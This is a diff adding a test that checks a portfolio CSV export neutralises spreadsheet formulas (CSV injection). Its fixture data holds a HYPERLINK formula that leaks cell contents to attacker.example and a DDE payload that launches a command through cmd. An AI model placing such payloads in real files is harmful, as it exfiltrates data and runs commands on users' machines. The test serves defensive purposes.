@@ -118,3 +118,37 @@ def test_use_case_page_searches_a_large_portfolio_instead_of_listing_it(app_for,
     assert at.query_params["uc"] in ("UC-0110", ["UC-0110"])
     with Session(engine) as session:
         assert at.title[0].value == use_cases.get_use_case(session, "UC-0110").title
+
+
+def test_the_portfolio_csv_download_neutralises_formulas(app_for, database_url, admin, engine, monkeypatch):
+    """Text that a spreadsheet would run as a formula is written with a leading apostrophe (OWASP)."""
+    import csv
+    import io
+
+    import streamlit
+
+    from tests.services.factories import propose
+
+    propose(
+        engine,
+        admin,
+        title='=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+        team="+cmd|' /C calc'!A0",
+    )
+    propose(engine, admin, title="@SUM(1+1)", team="-2+3")
+    downloads = []
+    real = streamlit.download_button
+
+    def recording(label, data, *args, **kwargs):
+        downloads.append(data)
+        return real(label, data, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recording)
+    at = app_for(database_url, "pages/portfolio.py")
+    assert not at.exception
+    (data,) = downloads
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [(r["title"], r["team"]) for r in rows] == [
+        ('\'=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "'+cmd|' /C calc'!A0"),
+        ("'@SUM(1+1)", "'-2+3"),
+    ]
